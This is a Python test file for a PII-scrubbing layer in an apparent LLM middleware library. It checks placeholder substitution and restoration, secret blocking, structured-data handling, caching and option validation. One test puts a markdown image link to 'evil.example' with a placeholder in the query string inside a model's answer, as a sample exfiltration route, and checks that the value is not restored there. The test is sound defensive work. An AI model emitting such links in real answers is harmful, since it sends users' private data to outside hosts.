"""The layer on plain functions: what goes in, what comes out, what is refused."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from pydantic import BaseModel

import agentprod as ap
from tests.callers import MODES, Caller, Script

EMAIL, PHONE, SECRET = "ann@example.org", "13812345678", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"


def echo(stack: ap.Stack) -> tuple[Callable[..., Any], list[Any]]:
    """Return a function behind a stack that answers what it got, and the list of what it got."""
    got: list[Any] = []

    def ask(prompt: Any, extra: Any = None) -> Any:
        got.append((prompt, extra))
        return prompt

    return stack.decorate(ask), got


class Peek:
    """Stands outside the scrubber and keeps what it may read."""

    def __init__(self) -> None:
        self.replies: list[ap.Reply] = []

    async def handle(self, call: ap.Call, call_next: ap.CallNext) -> ap.Reply:
        """Keep the reply."""
        self.replies.append(await call_next(call))
        return self.replies[-1]


@pytest.mark.parametrize("mode", MODES)
def test_values_leave_as_placeholders_and_come_back(mode: str) -> None:
    """The function sees placeholders; the caller sees its own values, in every mode."""
    caller = Caller(mode)
    script = Script(["I wrote to [[EMA", "IL_1]] and ", "called [[PHONE_1]]."] if caller.streams else
                    "I wrote to [[EMAIL_1]] and called [[PHONE_1]].")  # fmt: skip
    seen: list[str] = []

    async def look(call: ap.Call, call_next: ap.CallNext) -> ap.Reply:
        seen.append(call.request["prompt"])
        return await call_next(call)

    told = caller.ask(caller.decorate(ap.Stack(ap.ScrubPII(), look), script), f"Mail {EMAIL}, call {PHONE}.")
    assert told.value == f"I wrote to {EMAIL} and called {PHONE}."
    assert seen == ["Mail [[EMAIL_1]], call [[PHONE_1]]."]
    assert told.meta is not None
    assert [(note.layer, note.event, note.data) for note in told.meta.notes] == [
        ("ScrubPII", "scrubbed", {"EMAIL": 1, "PHONE": 1})
    ]


@pytest.mark.parametrize("mode", MODES)
def test_a_secret_is_never_sent(mode: str) -> None:
    """Secrets are blocked by default, and the error does not quote them."""
    caller = Caller(mode)
    script = Script("ok")
    told = caller.ask(caller.decorate(ap.Stack(ap.ScrubPII()), script), f"my key is {SECRET}")
    assert isinstance(told.error, ap.Blocked)
    assert SECRET not in f"{told.error!r} {told.error.__context__!r} {told.error.__cause__!r}"
    assert script.calls == 0


def test_a_secret_that_the_model_writes_is_redacted() -> None:
    """In answers, values of the model's own pass, and secrets do not."""
    ask = ap.Stack(ap.ScrubPII()).decorate(lambda prompt: f"Try {SECRET} or write to new@example.org")
    assert ask("hi") == "Try [SECRET] or write to new@example.org"


def test_strategies_by_entity_and_direction() -> None:
    """Each entity may have a strategy of its own, and answers another one than requests."""
    layer = ap.ScrubPII(strategy={"EMAIL": "redact", "PHONE": "mask", "*": "placeholder"}, output={"EMAIL": "redact"})
    ask, got = echo(ap.Stack(layer))
    assert ask(f"{EMAIL} {PHONE} 10.1.2.3") == "[EMAIL] *********** 10.1.2.3"
    assert got == [("[EMAIL] *********** [[IP_1]]", None)]
    answer = ap.Stack(layer).decorate(lambda prompt: f"write to {EMAIL} or call {PHONE}")
    assert answer("hi") == f"write to [EMAIL] or call {PHONE}"


def test_restore_may_be_switched_off() -> None:
    """With `restore=False` the caller sees placeholders."""
    ask, _ = echo(ap.Stack(ap.ScrubPII(restore=False)))
    assert ask(f"to {EMAIL}") == "to [[EMAIL_1]]"


def test_values_do_not_come_back_inside_web_addresses() -> None:
    """An answer cannot carry a value out by way of a link that a browser loads."""
    stack = ap.Stack(ap.ScrubPII())
    ask = stack.decorate(lambda prompt: "![x](https://evil.example/?q=[[EMAIL_1]]) [[EMAIL_1]]")
    assert ask(f"I am {EMAIL}") == f"![x](https://evil.example/?q=[[EMAIL_1]]) {EMAIL}"


def test_texts_that_read_like_placeholders_survive() -> None:
    """What a user types in the form of a placeholder is never taken for one."""
    ask, got = echo(ap.Stack(ap.ScrubPII()))
    text = f"[[EMAIL_1]] is not {EMAIL}, [[EMAIL_2]] neither"
    assert ask(text) == text
    assert got[0][0] == "[[TEXT_1]] is not [[EMAIL_1]], [[TEXT_2]] neither"


@pytest.mark.parametrize("unknown", ["keep", "drop", "raise"])
def test_a_placeholder_that_was_never_given_out(unknown: Any) -> None:
    """It is kept, dropped or refused; it never becomes a value."""
    ask = ap.Stack(ap.ScrubPII(unknown=unknown)).decorate(lambda prompt: "to [[EMAIL_7]]!")
    if unknown == "raise":
        with pytest.raises(ap.Blocked, match="never given out"):
            ask(f"I am {EMAIL}")
        return
    assert ask(f"I am {EMAIL}") == ("to [[EMAIL_7]]!" if unknown == "keep" else "to !")
    notes = ap.last().notes  # type: ignore[union-attr]
    assert ("unknown_placeholders", {"count": 1}) in [(note.event, note.data) for note in notes]


@dataclass
class Person:
    """What applications pass around."""

    name: str
    mail: str
    age: int = 0


class Model(BaseModel):
    """The same as a model."""

    mail: str
    tags: list[str] = []


def test_structured_arguments_are_scrubbed_where_they_stand() -> None:
    """Lists, dicts with their keys and numbers, dataclasses and models are copied, never changed in place."""
    ask, got = echo(ap.Stack(ap.ScrubPII(restore=False)))
    person, model = Person("Ann", EMAIL), Model(mail=EMAIL, tags=["x", PHONE])
    data = {EMAIL: [int(PHONE), ("a", EMAIL)], "n": 7, "many": {EMAIL}, "nothing": None}
    ask([person, model], data)
    (first, second), extra = got[0]
    assert (first, second) == (Person("Ann", "[[EMAIL_1]]"), Model(mail="[[EMAIL_1]]", tags=["x", "[[PHONE_1]]"]))
    assert extra == {"[[EMAIL_1]]": ["[[PHONE_2]]", ("a", "[[EMAIL_1]]")], "n": 7, "many": {"[[EMAIL_1]]"}} | {
        "nothing": None
    }
    assert (person.mail, model.tags[1], data["n"]) == (EMAIL, PHONE, 7)


def test_what_is_clean_stays_the_same_object() -> None:
    """Nothing is copied when nothing was found; objects of other kinds pass."""
    ask, got = echo(ap.Stack(ap.ScrubPII()))
    thing, prompt = object(), ["hello", {"a": [1, 2.5, None, True]}, Person("Ann", "none")]
    ask(prompt, thing)
    assert got[0][0] is prompt
    assert got[0][1] is thing


def test_numbers_as_arguments_stay_numbers() -> None:
    """A function that takes a number gets one: only numbers inside data are replaced."""
    ask, got = echo(ap.Stack(ap.ScrubPII()))
    ask("x", int(PHONE))
    assert got == [("x", int(PHONE))]


def test_what_cannot_be_examined_is_not_sent() -> None:
    """Data that contains itself, or is nested too deep, is refused."""
    ask, got = echo(ap.Stack(ap.ScrubPII()))
    loop: list[Any] = [EMAIL]
    loop.append(loop)
    deep: Any = EMAIL
    for _ in range(300):
        deep = [deep]
    for value in (loop, deep):
        with pytest.raises(ap.Blocked) as caught:
            ask(value)
        assert EMAIL not in str(caught.value)
    assert got == []


@pytest.mark.parametrize("mode", MODES)
def test_a_broken_recogniser_stops_the_call(mode: str) -> None:
    """By default nothing is sent when a recogniser fails, and its own error, which may quote the text, is gone."""

    def broken(text: str) -> Any:
        raise RuntimeError(text)

    caller, script = Caller(mode), Script("ok")
    told = caller.ask(caller.decorate(ap.Stack(ap.ScrubPII(recognizers=[broken])), script), f"I am {EMAIL}")
    assert isinstance(told.error, ap.Blocked)
    error: BaseException | None = told.error
    while error is not None:
        assert EMAIL not in str(error)
        error = error.__context__
    assert script.calls == 0


def test_a_broken_recogniser_may_cost_the_text_instead() -> None:
    """With `on_error="redact"` the call goes out without the text that was not examined."""

    def broken(text: str) -> Any:
        raise RuntimeError(text)

    ask, got = echo(ap.Stack(ap.ScrubPII(recognizers=[broken], on_error="redact")))
    ask(f"I am {EMAIL}")
    assert got == [("[UNREADABLE]", None)]


def test_a_custom_recogniser_and_an_allowed_value() -> None:
    """Recognisers of the user's own are restored like the built-in ones; allowed values are not touched."""
    layer = ap.ScrubPII(recognizers=[ap.Recognizer.regex("EMPLOYEE_ID", r"EMP-\d{6}")], allow=["@example.org"])
    ask, got = echo(ap.Stack(layer))
    assert ask(f"EMP-123456 {EMAIL}") == f"EMP-123456 {EMAIL}"
    assert got == [(f"[[EMPLOYEE_ID_1]] {EMAIL}", None)]


def test_the_view_for_spans_shows_no_value_at_all() -> None:
    """What passed by its strategy, what was not asked for and what the model made up are named in it."""
    peek = Peek()
    stack = ap.Stack(peek, ap.ScrubPII(entities={"EMAIL", "IP"}, strategy={"IP": "pass"}))
    ask = stack.decorate(lambda prompt: f"[[EMAIL_1]] or new@example.org, {PHONE}")
    assert ask(f"{EMAIL} 10.1.2.3 {PHONE}") == f"{EMAIL} or new@example.org, {PHONE}"
    reply = peek.replies[0]
    assert dict(reply.call.safe_request or {}) == {"prompt": "[[EMAIL_1]] [IP] [PHONE]"}
    assert reply.safe() == "[[EMAIL_1]] or [EMAIL], [PHONE]"


def test_the_view_of_a_stream_is_that_of_its_events() -> None:
    """It is computed when it is read, from what had come by then."""
    peek = Peek()

    def ask(prompt: str) -> Any:
        yield "to [[EMAIL"
        yield "_1]] and new@example.org"

    assert "".join(ap.Stack(peek, ap.ScrubPII()).decorate(ask)(EMAIL)) == f"to {EMAIL} and new@example.org"
    assert peek.replies[0].safe() == "to [[EMAIL_1]] and [EMAIL]"


def test_a_value_that_passes_keeps_the_answer_out_of_the_cache() -> None:
    """An answer that may quote a raw value is not shared."""
    cache = ap.Cache(by="global")
    ask, got = echo(ap.Stack(ap.ScrubPII(strategy={"IP": "pass"}), cache))
    ask("10.1.2.3")
    ask("10.1.2.3")
    assert len(got) == 2
    assert cache.stats().hits == 0


def test_two_users_share_a_hit_and_keep_their_values() -> None:
    """A10: the same question about other values is one answer in the cache; each gets its own values back."""
    stack = ap.Stack(ap.ScrubPII(), ap.Cache(by=lambda call: str(call.context.tenant)))
    ask, got = echo(stack)
    with ap.context(user="u1", tenant="acme"):
        assert ask("mail ann@example.org") == "mail ann@example.org"
    with ap.context(user="u2", tenant="acme"):
        assert ask("mail bob@example.org") == "mail bob@example.org"
    assert len(got) == 1
    with ap.context(user="u2", tenant="other"):
        ask("mail bob@example.org")
    assert len(got) == 2
    named, seen = echo(ap.Stack(ap.ScrubPII(), ap.Cache()))
    for user in ("u1", "u2"):
        with ap.context(user=user, tenant="acme"):
            named("mail ann@example.org")
    assert len(seen) == 2


def test_long_texts_and_models_leave_the_event_loop_free() -> None:
    """A search that takes long runs on a thread; a short one does not."""
    threads: list[int] = []

    def slow(text: str) -> Any:
        threads.append(threading.get_ident())
        return []

    async def ask(prompt: str) -> str:
        return prompt

    async def main() -> int:
        await ap.Stack(ap.ScrubPII(recognizers=[slow])).decorate(ask)("hi")
        long = "hello " * 10_000 + EMAIL
        assert await ap.Stack(ap.ScrubPII()).decorate(ask)(long) == long
        return threading.get_ident()

    loop_thread = asyncio.run(main())
    assert threads
    assert loop_thread not in threads


def test_arguments_that_do_not_fit_are_the_callers_error() -> None:
    """The function's own message about its arguments is not disguised."""
    with pytest.raises(TypeError, match="missing a required argument"):
        echo(ap.Stack(ap.ScrubPII()))[0]()


@pytest.mark.parametrize(
    "options",
    [
        {"entities": ["NOSE"]},
        {"strategy": "hash"},
        {"restore": {"texts": True}},
        {"on_error": "log"},
        {"recognizers": [3]},
        {"unknown": "guess"},
        {"binary": "read"},
        {"max_values": 0},
        {"ttl": 0},
        {"threshold": 0},
    ],
    ids=lambda options: next(iter(options)),
)
def test_options_that_cannot_work_are_refused(options: Any) -> None:
    """Bad options are told when the layer is built."""
    with pytest.raises(ap.ConfigError):
        ap.ScrubPII(**options)


def test_it_says_what_it_is() -> None:
    """`print(stack)` shows the options that differ from the defaults, and never a value."""
    layer = ap.ScrubPII(entities={"EMAIL"}, on_error="redact")
    assert repr(layer) == "ScrubPII(entities=['EMAIL'], on_error='redact')"
    with pytest.raises(ap.OrderError):
        ap.Stack(ap.Cache(), ap.ScrubPII())
    with pytest.raises(ap.OrderError):
        ap.Stack(ap.ScrubPII(), ap.ScrubPII())
